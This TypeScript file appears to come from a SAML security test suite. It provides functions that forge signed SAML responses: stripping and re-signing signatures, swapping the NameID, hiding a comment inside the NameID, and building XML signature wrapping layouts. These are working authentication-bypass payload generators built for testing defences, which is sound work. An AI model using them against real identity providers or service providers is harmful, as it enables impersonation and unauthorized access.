/**
 * Ways of spoiling a signed SAML response, for the attack suite: re-signing after a change,
 * changing the NameID without re-signing, hiding a comment inside the NameID, and the XML
 * signature wrapping layouts (after Somorovsky et al., "On Breaking SAML", 2012) in which a
 * forged assertion or response sits beside the signed one that is moved out of its way.
 *
 * Each takes the response XML and returns new XML; none of them is used by the stand-in
 * host itself. A key smuggled in KeyInfo needs no helper: `buildSignedResponse` with another
 * key already publishes that key's certificate there.
 */
import { DOMParser, XMLSerializer, type Document, type Element, type Text } from '@xmldom/xmldom';
import { ASSERTION_NS, PROTOCOL_NS, randomSamlId, signSamlElement } from './saml-response';
import type { SigningKey } from './signing-key';

const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';

export interface ResignOptions {
  signAssertion?: boolean;
  signResponse?: boolean;
}

/** Where the signed assertion goes when a forged one is added (signature wrapping). */
export type AssertionWrapPlacement =
  /** The forged assertion before the signed one, both children of the response. */
  | 'forged-first'
  /** The forged assertion after the signed one. */
  | 'forged-last'
  /** The signed assertion moved inside the forged one, which takes its place. */
  | 'signed-inside-forged'
  /** The signed assertion moved into samlp:Extensions of the response. */
  | 'signed-in-extensions'
  /** The signed assertion moved into a ds:Object of a copy of its signature in the forged one. */
  | 'signed-in-forged-signature';

/** Where the signed response goes when a forged response becomes the document's root. */
export type ResponseWrapPlacement = 'in-signature-object' | 'before-signature';

export interface WrapOptions<Placement> {
  /** The NameID the forged copy asserts. */
  nameId: string;
  placement: Placement;
  /** The forged copy's ID; a fresh one unless a test wants it to clash with the signed one. */
  forgedId?: string;
}

/** Removes every ds:Signature in the document. */
export function stripSignatures(xml: string): string {
  const doc = parse(xml);
  for (const signature of Array.from(doc.getElementsByTagNameNS(DSIG_NS, 'Signature'))) {
    signature.parentNode?.removeChild(signature);
  }
  return serialize(doc);
}

/** Signs the response, and each assertion right under it, again after removing all signatures. */
export function resignResponse(xml: string, key: SigningKey, options: ResignOptions = {}): string {
  let signed = stripSignatures(xml);
  const root = documentElement(parse(signed));

  if (options.signAssertion ?? true) {
    for (const assertion of assertionsOf(root)) {
      signed = signSamlElement(signed, assertion.getAttribute('ID') ?? '', key);
    }
  }

  if (options.signResponse ?? true) {
    signed = signSamlElement(signed, root.getAttribute('ID') ?? '', key);
  }
  return signed;
}

/** Replaces the text of every saml:NameID, leaving the signatures as they were. */
export function setNameId(xml: string, nameId: string): string {
  const doc = parse(xml);
  for (const element of Array.from(doc.getElementsByTagNameNS(ASSERTION_NS, 'NameID'))) {
    replaceText(element, nameId);
  }
  return serialize(doc);
}

/**
 * Splits the first NameID's text at `offset` with an empty comment between the halves. The
 * signature still verifies, because canonicalization without comments drops the comment; an
 * SP that reads only the first text node then sees a shorter, different NameID.
 */
export function injectCommentIntoNameId(xml: string, offset: number): string {
  const doc = parse(xml);
  const nameId = doc.getElementsByTagNameNS(ASSERTION_NS, 'NameID')[0];
  const text = nameId?.firstChild;
  if (!text || text.nodeType !== text.TEXT_NODE) {
    throw new Error('The response has no NameID text to split.');
  }

  const tail = (text as Text).splitText(offset);
  nameId.insertBefore(doc.createComment(''), tail);
  return serialize(doc);
}

/** Adds a forged copy of the signed assertion and moves the signed one as `placement` says. */
export function wrapSignedAssertion(
  xml: string,
  options: WrapOptions<AssertionWrapPlacement>,
): string {
  const doc = parse(xml);
  const root = documentElement(doc);
  const signed = assertionsOf(root)[0];
  if (!signed) throw new Error('The response has no assertion to wrap.');
  const forged = forgedCopy(signed, options);

  placeAssertions(doc, root, signed, forged, options.placement);
  return serialize(doc);
}

/** Makes a forged copy of the whole response the root and moves the signed response into it. */
export function wrapSignedResponse(
  xml: string,
  options: WrapOptions<ResponseWrapPlacement>,
): string {
  const doc = parse(xml);
  const signed = documentElement(doc);
  if (!signatureOf(signed)) {
    throw new Error('The response is not signed; there is nothing to wrap.');
  }

  // The forged response keeps a copy of the response signature, which still names the
  // signed response's ID; its assertions lose theirs, which the new NameID would break.
  const forged = signed.cloneNode(true) as Element;
  forged.setAttribute('ID', options.forgedId ?? randomSamlId());
  for (const assertion of assertionsOf(forged)) {
    removeSignature(assertion);
    nameIdsOf(assertion).forEach((nameId) => replaceText(nameId, options.nameId));
  }

  doc.replaceChild(forged, signed);
  const signature = signatureOf(forged) as Element;
  if (options.placement === 'in-signature-object') {
    signature.appendChild(dsObject(doc, signed));
  } else {
    forged.insertBefore(signed, signature);
  }
  return serialize(doc);
}

function placeAssertions(
  doc: Document,
  root: Element,
  signed: Element,
  forged: Element,
  placement: AssertionWrapPlacement,
): void {
  if (placement === 'forged-first') {
    root.insertBefore(forged, signed);
    return;
  }
  if (placement === 'forged-last') {
    root.insertBefore(forged, signed.nextSibling);
    return;
  }

  root.replaceChild(forged, signed);
  if (placement === 'signed-inside-forged') {
    forged.appendChild(signed);
  } else if (placement === 'signed-in-extensions') {
    const extensions = doc.createElementNS(PROTOCOL_NS, 'samlp:Extensions');
    extensions.appendChild(signed);
    root.insertBefore(extensions, childElement(root, PROTOCOL_NS, 'Status'));
  } else {
    const signature = signatureOf(signed)?.cloneNode(true) as Element | undefined;
    if (!signature) throw new Error('The assertion is not signed; there is nothing to wrap.');
    signature.appendChild(dsObject(doc, signed));
    const afterIssuer = childElement(forged, ASSERTION_NS, 'Issuer')?.nextSibling ?? null;
    forged.insertBefore(signature, afterIssuer);
  }
}

/** A deep copy of the assertion without its signature, with a new ID and another NameID. */
function forgedCopy(signed: Element, options: WrapOptions<unknown>): Element {
  const forged = signed.cloneNode(true) as Element;
  removeSignature(forged);

  forged.setAttribute('ID', options.forgedId ?? randomSamlId());
  nameIdsOf(forged).forEach((nameId) => replaceText(nameId, options.nameId));
  return forged;
}

function dsObject(doc: Document, content: Element): Element {
  const object = doc.createElementNS(DSIG_NS, 'ds:Object');
  object.appendChild(content);
  return object;
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc);
}

function documentElement(doc: Document): Element {
  if (!doc.documentElement) throw new Error('The XML has no root element.');
  return doc.documentElement;
}

function assertionsOf(response: Element): Element[] {
  return childElements(response).filter(
    (child) => child.namespaceURI === ASSERTION_NS && child.localName === 'Assertion',
  );
}

function signatureOf(element: Element): Element | undefined {
  return childElement(element, DSIG_NS, 'Signature') ?? undefined;
}

function removeSignature(element: Element): void {
  const signature = signatureOf(element);
  if (signature) element.removeChild(signature);
}

function nameIdsOf(assertion: Element): Element[] {
  return Array.from(assertion.getElementsByTagNameNS(ASSERTION_NS, 'NameID'));
}

function childElement(parent: Element, namespace: string, localName: string): Element | null {
  const found = childElements(parent).find(
    (child) => child.namespaceURI === namespace && child.localName === localName,
  );
  return found ?? null;
}

function childElements(parent: Element): Element[] {
  return Array.from(parent.childNodes).filter(
    (node): node is Element => node.nodeType === node.ELEMENT_NODE,
  );
}

function replaceText(element: Element, text: string): void {
  element.textContent = text;
}
